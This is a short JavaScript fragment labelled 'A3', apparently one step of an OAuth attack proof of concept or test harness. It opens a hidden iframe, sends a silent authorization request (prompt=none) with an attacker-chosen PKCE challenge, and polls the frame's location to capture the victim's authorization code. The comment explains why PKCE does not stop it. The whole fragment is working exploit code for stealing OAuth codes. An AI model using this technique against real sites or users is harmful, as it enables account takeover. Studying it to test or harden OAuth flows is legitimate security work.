// A3: PKCE binds the code to the verifier of whoever began the flow, and here the attacker begins it.
const frame = document.createElement("iframe");
frame.hidden = true;
const query = new URLSearchParams({ response_type: "code", client_id: CLIENT, prompt: "none", state: "x", code_challenge_method: "S256", code_challenge: CHALLENGE, redirect_uri: CALLBACK });
frame.src = `${PROVIDER}/authorize?${query}`;
document.body.append(frame);
await attempt("code", () => new Promise((found) => {
  const look = () => { try { const code = new URL(frame.contentWindow.location).searchParams.get("code"); if (code) return found(code); } catch { /* still elsewhere */ } setTimeout(look, 20); };
  look();
}));
